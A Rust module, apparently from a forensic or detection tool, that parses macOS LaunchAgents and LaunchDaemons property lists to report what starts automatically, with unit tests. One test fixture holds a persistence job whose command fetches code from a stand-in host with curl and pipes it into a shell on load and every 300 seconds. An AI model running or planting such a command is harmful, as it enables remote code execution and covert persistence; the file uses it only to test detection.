//! What macOS starts by itself: property lists in the folders `LaunchAgents` and `LaunchDaemons`.
//!
//! Source: Apple, launchd.plist(5) and plist(5). MITRE ATT&CK T1543.001 and T1543.004.

use super::event::{Event, Starts};
use super::small;
use crate::base::anomaly::Cause;
use crate::base::bytes::ReadAt;
use crate::base::limits::Limits;
use crate::base::{text, xml};
use quick_xml::events::Event as Part;

/// Parts of a list that are read.
const PARTS: usize = 20_000;

/// Words of a command line, and bytes of them.
const WORDS: usize = 256;
const LONGEST: usize = 32 << 10;

/// Whether a path is that of a job.
#[must_use]
pub fn is_job(path: &str) -> bool {
    let mut parts = path.rsplit(['\\', '/']);
    let name = parts.next().unwrap_or_default();
    name.ends_with(".plist") && matches!(parts.next(), Some("LaunchAgents" | "LaunchDaemons"))
}

/// A job while its list is read.
#[derive(Default)]
struct Job {
    /// The elements that are open, as their depth.
    depth: usize,
    /// The key of the outermost dictionary that is being told.
    key: String,
    text: String,
    starts: Starts,
    program: Option<String>,
    words: Vec<String>,
    said: bool,
}

impl Job {
    /// Takes the value that ended: `depth` is where it lies, 2 for one of the job itself.
    fn take(&mut self, element: &str) {
        let text = std::mem::take(&mut self.text);
        let text = text.trim();
        let on = element == "true";
        let nested = self.depth != 2;
        match (self.key.as_str(), element) {
            (_, "key") if !nested => {
                text.clone_into(&mut self.key);
                self.said |= matches!(text, "Label" | "Program" | "ProgramArguments");
            }
            ("ProgramArguments", "string") if self.words.len() < WORDS => {
                let length: usize = self.words.iter().map(String::len).sum();
                if length.saturating_add(text.len()) < LONGEST {
                    self.words.push(text.to_owned());
                }
            }
            _ if nested => {}
            ("Label", "string") => text.clone_into(&mut self.starts.name),
            ("Program", "string") => self.program = Some(text.to_owned()),
            ("WorkingDirectory", "string") => self.starts.working_directory = Some(text.to_owned()),
            ("UserName", "string") => self.starts.run_as = Some(text.to_owned()),
            ("Disabled", "true") => self.starts.disabled = true,
            ("StartInterval", "integer") => self.starts.triggers.push(format!("every {text} seconds")),
            ("RunAtLoad", _) if on => self.starts.triggers.push("when it is loaded".to_owned()),
            ("KeepAlive", "true" | "dict") => self.starts.triggers.push("whenever it ends".to_owned()),
            ("StartCalendarInterval", "dict" | "array") => self.starts.triggers.push("at set times".to_owned()),
            ("WatchPaths" | "QueueDirectories", "array") => {
                self.starts.triggers.push("when a path changes".to_owned());
            }
            ("StartOnMount", "true") => self.starts.triggers.push("when a volume is mounted".to_owned()),
            _ => {}
        }
        self.starts.triggers.truncate(16);
    }
}

/// Reads a job into an event.
///
/// # Errors
/// What reading the bytes says.
pub fn read(
    stream: &dyn ReadAt,
    path: &str,
    limits: &Limits,
    note: &mut dyn FnMut(Cause),
    visit: &mut dyn FnMut(Event),
) -> std::io::Result<()> {
    let bytes = small::bytes(stream, limits, note)?;
    if bytes.starts_with(b"bplist") {
        note(Cause::Unsupported("a binary property list is not read".to_owned()));
        return Ok(());
    }
    let Some(list) = text::decode(&bytes) else { return Ok(()) };
    let mut reader = xml::reader(&list.content);
    let (mut job, mut ended) = (Job::default(), false);
    for _ in 0..PARTS {
        let offset = reader.buffer_position();
        match reader.read_event() {
            Ok(Part::Start(start)) => {
                job.text.clear();
                // The list itself holds the job; it is no level of it.
                job.depth = job.depth.saturating_add(usize::from(start.name().as_ref() != "plist"));
            }
            Ok(Part::Empty(start)) => {
                job.depth = job.depth.saturating_add(1);
                job.take(start.name().as_ref());
                job.depth = job.depth.saturating_sub(1);
            }
            Ok(Part::End(end)) => {
                job.take(end.name().as_ref());
                job.depth = job.depth.saturating_sub(usize::from(end.name().as_ref() != "plist"));
            }
            Ok(Part::Text(words)) => job.text.push_str(&words.xml10_content()),
            Ok(Part::CData(words)) => job.text.push_str(&words.xml10_content()),
            Ok(Part::GeneralRef(reference)) => job.text.extend(xml::referenced(&reference)),
            Ok(Part::Eof) => {
                ended = true;
                break;
            }
            Ok(_) => {}
            Err(error) => {
                note(Cause::Corrupt { what: format!("property list: {error}"), offset });
                ended = true;
                break;
            }
        }
    }
    if !ended {
        note(Cause::LimitReached { what: "parts of a property list", limit: u64::try_from(PARTS).unwrap_or(u64::MAX) });
    }
    let Job { mut starts, program, words, said, .. } = job;
    if !said {
        return Ok(());
    }
    // The program that is named by itself is run with the words, of which the first is but what it is called.
    let words = match (program, words.split_first()) {
        (Some(program), Some((_, rest))) => [&[program], rest].concat(),
        (Some(program), None) => vec![program],
        (None, _) => words,
    };
    let shown = |word: &String| match word.is_empty() || word.contains(char::is_whitespace) {
        true => format!("'{word}'"),
        false => word.clone(),
    };
    let line = words.iter().map(shown).collect::<Vec<_>>().join(" ");
    if starts.name.is_empty() {
        path.rsplit(['\\', '/']).next().unwrap_or_default().clone_into(&mut starts.name);
    }
    starts.command_line = Some(line).filter(|line| !line.is_empty());
    let mechanism = if path.contains("LaunchDaemons") { "launch-daemon" } else { "launch-agent" };
    mechanism.clone_into(&mut starts.mechanism);
    visit(Event { source: "launchd".to_owned(), starts: Some(starts), ..Event::default() });
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(list: &str, path: &str) -> (Vec<Starts>, Vec<String>) {
        let (mut events, mut notes) = (Vec::new(), Vec::new());
        let mut note = |cause: Cause| notes.push(cause.to_string());
        read(&list.as_bytes().to_vec(), path, &Limits::default(), &mut note, &mut |event| events.push(event)).unwrap();
        (events.into_iter().filter_map(|event| event.starts).collect(), notes)
    }

    #[test]
    fn jobs_are_known_by_their_place() {
        for (path, is) in [
            ("/Library/LaunchDaemons/a.plist", true),
            ("/Users/k/Library/LaunchAgents/a.b.plist", true),
            ("/Library/Preferences/a.plist", false),
            ("/Library/LaunchAgents/readme", false),
            ("", false),
        ] {
            assert_eq!(is_job(path), is, "{path}");
        }
    }

    #[test]
    fn a_job_is_told_with_its_words_and_when_it_runs() {
        let list = |body: &str| {
            format!(
                "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://x\">\n\
                 <plist version=\"1.0\">\n<dict>{body}</dict></plist>"
            )
        };
        let words = "<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string>\
                     <string>curl -s ftp://h/a | sh &amp;&amp; :</string></array>";
        let cases = [
            (
                format!("<key>Label</key><string>com.x</string>{words}<key>RunAtLoad</key><true/>\
                         <key>StartInterval</key><integer>300</integer><key>UserName</key><string>bob</string>"),
                "com.x",
                "/bin/sh -c 'curl -s ftp://h/a | sh && :'",
                "when it is loaded, every 300 seconds",
            ),
            (
                format!("{words}<key>Program</key><string>/t/x</string><key>RunAtLoad</key><false/>"),
                "a.plist",
                "/t/x -c 'curl -s ftp://h/a | sh && :'",
                "",
            ),
            (
                "<key>KeepAlive</key><dict><key>SuccessfulExit</key><false/></dict><key>Program</key><string>/t/y</string>\
                 <key>EnvironmentVariables</key><dict><key>Program</key><string>no</string></dict>"
                    .to_owned(),
                "a.plist",
                "/t/y",
                "whenever it ends",
            ),
        ];
        for (body, name, line, triggers) in cases {
            let (starts, notes) = told(&list(&body), "/Library/LaunchDaemons/a.plist");
            let [one] = starts.as_slice() else { panic!("{body}") };
            assert_eq!((one.name.as_str(), one.command_line.as_deref()), (name, Some(line)), "{notes:?}");
            assert_eq!((one.triggers.join(", ").as_str(), one.mechanism.as_str()), (triggers, "launch-daemon"));
        }
        assert_eq!(told(&list("<key>x</key><true/>"), "LaunchAgents/a.plist").0, []);
        assert_eq!(told("bplist00\0", "LaunchAgents/a.plist").1.len(), 1);
        let many = format!("<key>ProgramArguments</key><array>{}</array>", "<string>a</string>".repeat(1000));
        let (starts, _) = told(&list(&many), "LaunchAgents/a.plist");
        assert_eq!(starts[0].command_line.as_ref().map(String::len), Some(WORDS * 2 - 1));
    }
}
